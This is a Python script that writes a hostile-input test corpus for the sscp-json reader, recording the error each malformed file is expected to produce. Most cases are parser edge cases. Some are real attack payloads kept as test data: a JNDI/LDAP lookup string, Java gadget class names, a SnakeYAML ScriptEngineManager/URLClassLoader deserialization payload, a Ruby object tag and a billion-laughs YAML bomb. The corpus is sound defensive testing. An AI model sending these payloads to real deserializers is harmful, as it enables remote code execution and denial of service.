#!/usr/bin/env python3
"""Writes sscp-json's hostile-input corpus into src/test/resources/io/github/sscp/json/hostile/.

Each case is one file and one line of EXPECTED.tsv: the file, the document kind it is read as,
the JSON Pointer the reader must name and a fragment of its message. HostileCorpusTest reads the
files; this script is only needed to change the corpus. Run from the sscp-json directory:
    python3 scripts/make-hostile-corpus.py
"""
import copy
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))
RES = os.path.join(HERE, "..", "src", "test", "resources", "io", "github", "sscp", "json")
OUT = os.path.join(RES, "hostile")


def load(name):
    with open(os.path.join(RES, "valid", name), encoding="utf-8") as f:
        return json.load(f)


PARTNERSHIP = load("small-partnership.json")
REPORT = load("small-compliance-report.json")
KPI = load("small-kpi-assessment.json")
cases = []
DEPTH = 64  # Limits.DEFAULT.maxDepth(): the pointer of a too-deep document stops at that depth


def dump(doc):
    return json.dumps(doc, indent=2, ensure_ascii=False).encode("utf-8")


def case(name, data, pointer, fragment, kind="partnership"):
    if isinstance(data, str):
        data = data.encode("utf-8")
    cases.append((name, data, kind, pointer, fragment))


def edit(base, fn):
    doc = copy.deepcopy(base)
    fn(doc)
    return dump(doc)


def p(fn):
    return edit(PARTNERSHIP, fn)


def d(fn):
    return p(lambda x: fn(x["document"]))


# --- size and depth -----------------------------------------------------------------------------
case("deep-arrays.json", "[" * 10000 + "]" * 10000, "/0" * DEPTH, "nesting depth")
case("deep-objects.json", '{"a":' * 10000 + "1" + "}" * 10000, "/a" * DEPTH, "nesting depth")
case("deep-inside-document.json",
     d(lambda x: x.__setitem__("name", "@DEEP@")).replace(b'"@DEEP@"', b"[" * 5000 + b"]" * 5000),
     "/document/name" + "/0" * (DEPTH - 2), "nesting depth")
case("huge-string.json", d(lambda x: x.__setitem__("name", "S" * 200001)), "/document/name",
     "String value length")
case("huge-property-name.json", d(lambda x: x.__setitem__("n" * 5000, 1)), "/document",
     "a property name is longer than 200 characters")
case("money-1e5000000.json", d(lambda x: x.__setitem__("funding", {"bids": [{
    "id": "bid", "title": "Safer Streets", "status": "AWARDED", "amountAwarded": "@N@"}]}))
     .replace(b'"@N@"', b"1e5000000"), "/document/funding/bids/0/amountAwarded",
     "expected a string in Money's text form")
case("money-1e5000000-as-text.json", d(lambda x: x.__setitem__("funding", {"bids": [{
    "id": "bid", "title": "Safer Streets", "status": "AWARDED", "amountAwarded": "1e5000000"}]})),
     "/document/funding/bids/0/amountAwarded", "Cannot parse money")
case("value-1e5000000.json",
     d(lambda x: x["observations"]["entries"][0].__setitem__("value", "@N@")).replace(b'"@N@"', b"1e5000000"),
     "/document/observations/entries/0/value", "exponents are not allowed")
case("value-5000-digits.json",
     d(lambda x: x["observations"]["entries"][0].__setitem__("value", "@N@")).replace(b'"@N@"', b"9" * 5000),
     "/document/observations/entries/0/value", "Number value length")
case("order-beyond-int.json",
     d(lambda x: x["strategies"][0]["priorities"][0].__setitem__("order", 99999999999999999999)),
     "/document/strategies/0/priorities/0/order", "whole number")
case("order-fraction.json",
     d(lambda x: x["strategies"][0]["priorities"][0].__setitem__("order", 1.5)),
     "/document/strategies/0/priorities/0/order", "whole number")

# --- duplicate keys -----------------------------------------------------------------------------
case("duplicate-key.json", d(lambda x: x.__setitem__("name", "@DUP@")).replace(
    b'"name": "@DUP@"', b'"name": "One", "name": "Two"'), "/document/name", "given twice")
case("duplicate-key-envelope.json", dump(PARTNERSHIP).replace(
    b'"kind": "partnership"', b'"kind": "partnership", "kind": "compliance-report"'), "/kind",
    "given twice")

# --- wrong types ----------------------------------------------------------------------------------
case("string-for-boolean.json", d(lambda x: x.__setitem__("merged", "yes")), "/document/merged",
     "expected true or false")
case("number-for-string.json", d(lambda x: x.__setitem__("name", 42)), "/document/name",
     "expected a string")
case("object-for-array.json", d(lambda x: x.__setitem__("organisations", {})),
     "/document/organisations", "expected an array")
case("array-for-object.json", d(lambda x: x.__setitem__("area", [])), "/document/area",
     "expected an object")
case("null-for-required.json", d(lambda x: x.__setitem__("name", None)), "/document/name",
     "a value is required here")
case("missing-required.json", d(lambda x: x.pop("nation")), "/document",
     "the property \"nation\" is required")
case("number-for-id.json", d(lambda x: x.__setitem__("id", 123)), "/document/id",
     "expected a string")
case("string-for-number.json", d(lambda x: x["observations"]["entries"][0].__setitem__("value", "12")),
     "/document/observations/entries/0/value", "expected a number")
case("array-for-map.json", d(lambda x: x["organisations"][0].__setitem__("identifiers", [])),
     "/document/organisations/0/identifiers", "expected an object")
case("wrong-document-kind.json", dump(REPORT), "/kind", "expected \"kind\": \"partnership\"")

# --- unknown properties and builder names ---------------------------------------------------------
case("unknown-property.json", d(lambda x: x.__setitem__("colour", "blue")), "/document/colour",
     "unknown property")
case("unknown-nested-property.json", d(lambda x: x["organisations"][0].__setitem__("colour", "x")),
     "/document/organisations/0/colour", "unknown property")
case("unknown-envelope-property.json", p(lambda x: x.__setitem__("schema", "x")), "/schema",
     "unknown property")
case("builder-addAlias.json", d(lambda x: x["organisations"][0].__setitem__("addAlias", "Council")),
     "/document/organisations/0/addAlias", "unknown property")
case("builder-addAllAliases.json",
     d(lambda x: x["organisations"][0].__setitem__("addAllAliases", ["Council"])),
     "/document/organisations/0/addAllAliases", "unknown property")
case("builder-from.json", d(lambda x: x.__setitem__("from", {"id": "other"})), "/document/from",
     "unknown property")
case("builder-build.json", d(lambda x: x.__setitem__("build", True)), "/document/build",
     "unknown property")
case("builder-addOrganisations.json",
     d(lambda x: x.__setitem__("addOrganisations", x["organisations"][0])),
     "/document/addOrganisations", "unknown property")
case("derived-getter.json", d(lambda x: x.__setitem__("statutoryMemberships", [])),
     "/document/statutoryMemberships", "unknown property")
case("derived-getter-record.json", d(lambda x: x.__setitem__("funding", {"bids": [{
    "id": "bid", "title": "Safer Streets", "status": "AWARDED",
    "amountAwarded": {"amount": 1, "negative": False}}]})),
     "/document/funding/bids/0/amountAwarded", "expected a string in Money's text form")
case("spc-unknown-option.json",
     edit(KPI, lambda x: x["document"]["spc"]["options"].__setitem__("magic", 1)),
     "/document/spc/options/magic", "unknown property", kind="kpi-assessment")

# --- dates, periods, codes, money, enums ----------------------------------------------------------
case("date-30-february.json", d(lambda x: x.__setitem__("meetings", [{
    "id": "m", "bodyId": "b", "date": "2024-02-30", "status": "HELD"}])),
     "/document/meetings/0/date", "2024-02-30")
case("date-slashes.json", d(lambda x: x.__setitem__("meetings", [{
    "id": "m", "bodyId": "b", "date": "2024/04/01", "status": "HELD"}])),
     "/document/meetings/0/date", "2024/04/01")
case("month-13.json", d(lambda x: x["observations"]["entries"][0].__setitem__("period", "2024-13")),
     "/document/observations/entries/0/period", "2024-13")
case("quarter-5.json", d(lambda x: x["observations"]["entries"][0].__setitem__("period", "2024/25 Q5")),
     "/document/observations/entries/0/period", "Q5")
case("range-backwards.json", d(lambda x: x["strategies"][0].__setitem__("period", "2027-03-31/2024-04-01")),
     "/document/strategies/0/period", "")
case("period-as-object.json",
     d(lambda x: x["observations"]["entries"][0].__setitem__("period", {"year": 2024, "month": 4})),
     "/document/observations/entries/0/period", "expected a string")
case("gss-code-bad.json", d(lambda x: x["area"].__setitem__("code", "X123")), "/document/area/code",
     "X123")
case("money-three-decimals.json", d(lambda x: x.__setitem__("funding", {"bids": [{
    "id": "bid", "title": "Safer Streets", "status": "AWARDED", "amountAwarded": "GBP 12.345"}]})),
     "/document/funding/bids/0/amountAwarded", "12.345")
case("enum-unknown.json", d(lambda x: x.__setitem__("nation", "SCOTLAND")), "/document/nation",
     "not one of")
case("enum-lower-case.json", d(lambda x: x.__setitem__("nation", "england")), "/document/nation",
     "not one of")

# --- non-finite numbers -------------------------------------------------------------------------
case("nan-literal.json", d(lambda x: x["observations"]["entries"][0].__setitem__("value", "@N@"))
     .replace(b'"@N@"', b"NaN"), "/document/observations/entries/0/value", "Non-standard token 'NaN'")
case("infinity-literal.json", d(lambda x: x["observations"]["entries"][0].__setitem__("value", "@N@"))
     .replace(b'"@N@"', b"-Infinity"), "/document/observations/entries/0/value", "not well-formed")
case("nan-string-for-decimal.json",
     d(lambda x: x["observations"]["entries"][0].__setitem__("value", "NaN")),
     "/document/observations/entries/0/value", "expected a number")
case("double-overflow.json",
     edit(KPI, lambda x: x["document"]["spc"]["points"][0].__setitem__("value", "@N@"))
     .replace(b'"@N@"', b"1e400"), "/document/spc/points/0/value", "range", kind="kpi-assessment")

# --- type ids and class names -------------------------------------------------------------------
case("class-property.json", d(lambda x: x["organisations"][0].__setitem__("@class", "java.lang.ProcessBuilder")),
     "/document/organisations/0/@class", "unknown property")
case("type-property.json", d(lambda x: x.__setitem__("@type", "io.github.sscp.model.ImmutablePartnership")),
     "/document/@type", "unknown property")
case("kind-class-name.json", p(lambda x: x.__setitem__("kind", "io.github.sscp.model.Partnership")),
     "/kind", "expected \"kind\"")
case("kind-java-type.json", p(lambda x: x.__setitem__("kind", "java.util.HashMap")), "/kind",
     "expected \"kind\"")
case("default-typing-array.json", d(lambda x: x.__setitem__(
    "organisations", ["java.util.ArrayList", x["organisations"]])), "/document/organisations/0",
     "expected an object")
case("default-typing-wrapper.json", d(lambda x: x.__setitem__(
    "area", {"io.github.sscp.model.geography.GeographyRef": x["area"]})),
     "/document/area/io.github.sscp.model.geography.GeographyRef", "unknown property")
case("jndi-string.json", d(lambda x: x.__setitem__("managingTeam", {
    "name": "${jndi:ldap://example.invalid/a}", "organisationId": "java.lang.Runtime"})),
     "/document/managingTeam/organisationId", "")

# --- envelope -------------------------------------------------------------------------------------
case("newer-version.json", p(lambda x: x.__setitem__("version", 2)), "/version", "newer than")
case("version-as-string.json", p(lambda x: x.__setitem__("version", "1")), "/version", "whole number")
case("version-fraction.json", p(lambda x: x.__setitem__("version", 1.5)), "/version", "whole number")
case("format-other.json", p(lambda x: x.__setitem__("format", "geojson")), "/format", "expected \"format\"")
case("no-document.json", p(lambda x: x.pop("document")), "", "no \"document\"")
case("bare-partnership.json", dump(PARTNERSHIP["document"]), "", "a bare document must be wrapped")
case("top-level-array.json", "[]", "", "expected an sscp document")
case("top-level-string.json", '"partnership"', "", "expected an sscp document")
case("top-level-null.json", "null", "", "expected an sscp document")

# --- malformed text -------------------------------------------------------------------------------
whole = dump(PARTNERSHIP)
case("truncated.json", whole[: len(whole) // 2], "/document/people", "Unexpected end-of-input")
case("truncated-in-string.json", b'{"format": "ss', "/format", "Unexpected end-of-input")
case("trailing-content.json", whole + b"{}", "", "unexpected content after the document")
case("comment.json", b"// a partnership\n" + whole, "", "not well-formed")
case("single-quotes.json", whole.replace(b'"format"', b"'format'"), "", "not well-formed")
case("unquoted-key.json", whole.replace(b'"format"', b"format"), "", "not well-formed")
case("control-character.json", whole.replace(b"Exampleton Council", b"Exampleton\x01Council"),
     "/document/organisations/0/name", "not well-formed")
case("trailing-comma.json", whole.replace(b'"version": 1,', b'"version": 1,,'), "/version", "Unexpected character (','")
case("empty.json", b"", "", "empty")
case("whitespace-only.json", b" \n\t\r\n ", "", "empty")

# --- encodings ------------------------------------------------------------------------------------
case("invalid-utf8.json", whole.replace(b"Exampleton Council", b"Exampleton \xc3\x28 Council"), "",
     "not valid UTF-8 (byte 0xc3 at offset")
case("overlong-utf8.json", whole.replace(b"Exampleton Council", b"Exampleton \xc0\xaf Council"), "",
     "not valid UTF-8")
case("utf16-bom.json", b"\xff\xfe" + whole.decode("utf-8").encode("utf-16-le"), "", "not valid UTF-8")
case("bom-twice.json", b"\xef\xbb\xbf\xef\xbb\xbf" + whole, "", "not well-formed")
case("latin1.json", whole.replace(b"Exampleton Council", "Exampleton Caf\u00e9".encode("latin-1")), "",
     "not valid UTF-8")

# --- validation after binding ---------------------------------------------------------------------
case("bad-id.json", d(lambda x: x.__setitem__("id", "Has Spaces")), "/document/id", "")
case("dangling-reference.json", d(lambda x: x["memberships"][0].__setitem__("organisationId", "nobody")),
     "/document/memberships/0/organisationId", "nobody")
case("blank-name.json", d(lambda x: x.__setitem__("name", "   ")), "/document/name", "")
case("invariant-sourced-without-citation.json",
     d(lambda x: x["area"].__setitem__("provenance", {"kind": "SOURCED"})),
     "/document/area/provenance/citation", "cite")
case("report-missing-rule-id.json", edit(REPORT, lambda x: x["document"]["findings"][0].pop("ruleId")),
     "/document/findings/0", "the property \"ruleId\" is required", kind="compliance-report")
case("report-bad-outcome.json",
     edit(REPORT, lambda x: x["document"]["findings"][0].__setitem__("outcome", "PASSED")),
     "/document/findings/0/outcome", "not one of", kind="compliance-report")
case("kpi-notrun-bad-key.json", edit(KPI, lambda x: x["document"]["notRun"].__setitem__("EVERYTHING", "x")),
     "/document/notRun/EVERYTHING", "not one of", kind="kpi-assessment")
case("kpi-spc-without-options.json", edit(KPI, lambda x: x["document"]["spc"].pop("options")),
     "/document/spc", "points\" and \"options\"", kind="kpi-assessment")

# --- YAML ---------------------------------------------------------------------------------------------
with open(os.path.join(RES, "valid", "small-partnership.yaml"), encoding="utf-8") as f:
    YAML = f.read()
NAME = "  name: Exampleton Community Safety Partnership\n"
assert NAME in YAML


def y(replacement, old=NAME):
    assert old in YAML, old
    return YAML.replace(old, replacement, 1)


def line_of(text, fragment):
    return text[: text.index(fragment)].count("\n") + 1


laughs = ['lol0: &lol0 "lol"']
for i in range(1, 10):
    laughs.append("lol%d: &lol%d [%s]" % (i, i, ", ".join(["*lol%d" % (i - 1)] * 10)))
case("yaml-billion-laughs.yaml", "\n".join(laughs) + "\n", "/lol1", "anchors and aliases")
case("yaml-alias.yaml", y("  name: *id\n").replace("  id: exampleton-csp", "  id: &id exampleton-csp"),
     "/document/name", "anchors and aliases")
case("yaml-merge-key.yaml", YAML.replace("  - {id: exampleshire-police, name: Exampleshire Police, type: POLICE_FORCE}",
     "  - {<<: *council, id: exampleshire-police, name: Exampleshire Police, type: POLICE_FORCE}")
     .replace("  - {id: exampleton-council,", "  - &council {id: exampleton-council,"),
     "/document/organisations/0", "anchors and aliases")
case("yaml-java-tag.yaml", y("  name: !!javax.script.ScriptEngineManager "
     "[!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.invalid/\"]]]]\n"),
     "/document/name", "tags are not allowed")
case("yaml-custom-tag.yaml", y("  name: !ruby/object:Gem::Installer Exampleton\n"), "/document/name",
     "tags are not allowed")
case("yaml-str-tag.yaml", y("  name: !!str Exampleton\n"), "/document/name", "tags are not allowed")
case("yaml-deep-flow.yaml", y("  name: " + "[ " * 20000 + "] " * 20000 + "\n"),
     "/document/name" + "/0" * (DEPTH - 2), "nesting depth")
case("yaml-duplicate-key.yaml", y(NAME + NAME), "/document/name", "Duplicate")
case("yaml-two-documents.yaml", YAML + "---\n" + YAML, "", "unexpected content after the document")
case("yaml-tab-indent.yaml", y("\tname: Exampleton\n"), "/document/id", "not well-formed")
case("yaml-huge-string.yaml", y("  name: " + "Safer " * 20000 + "\n"), "/document/name",
     "String value length")
case("yaml-long-word.yaml", y("  name: " + "S" * 200001 + "\n"), "",
     "a run of more than 10000 characters without a space")
case("yaml-long-quoted-word.yaml", y("  name: \"" + "S" * 10001 + "\"\n"), "",
     "a run of more than 10000 characters without a space")
case("yaml-hex-number.yaml", YAML.replace("version: 1\n", "version: 0x1\n"), "/version", "a whole number")
case("yaml-unquoted-year.yaml", YAML.replace("period: 2024-04,", "period: 2024,", 1),
     "/document/observations/entries/0/period", "quote it")
case("yaml-unclosed-flow.yaml", YAML.replace("type: POLICE_FORCE}", "type: POLICE_FORCE", 1),
     "/document/organisations/1/type", "while parsing a flow mapping")
case("yaml-huge-number.yaml", YAML.replace("value: 1210,", "value: 1e5000000,"),
     "/document/observations/entries/0/value", "exponents are not allowed")
case("yaml-unknown-property.yaml", y(NAME + "  colour: blue\n"), "/document/colour", "unknown property")
case("yaml-wrong-type.yaml", y("  name: [Exampleton]\n"), "/document/name", "expected a string")

os.makedirs(OUT, exist_ok=True)
for f in os.listdir(OUT):
    os.remove(os.path.join(OUT, f))
names = set()
with open(os.path.join(OUT, "EXPECTED.tsv"), "w", encoding="utf-8") as index:
    index.write("# file\tkind\tpointer\tmessage fragment (written by scripts/make-hostile-corpus.py)\n")
    for name, data, kind, pointer, fragment in cases:
        assert name not in names, name
        names.add(name)
        with open(os.path.join(OUT, name), "wb") as f:
            f.write(data)
        index.write("%s\t%s\t%s\t%s\n" % (name, kind, pointer, fragment))
print("%d hostile documents written to %s" % (len(cases), os.path.normpath(OUT)))
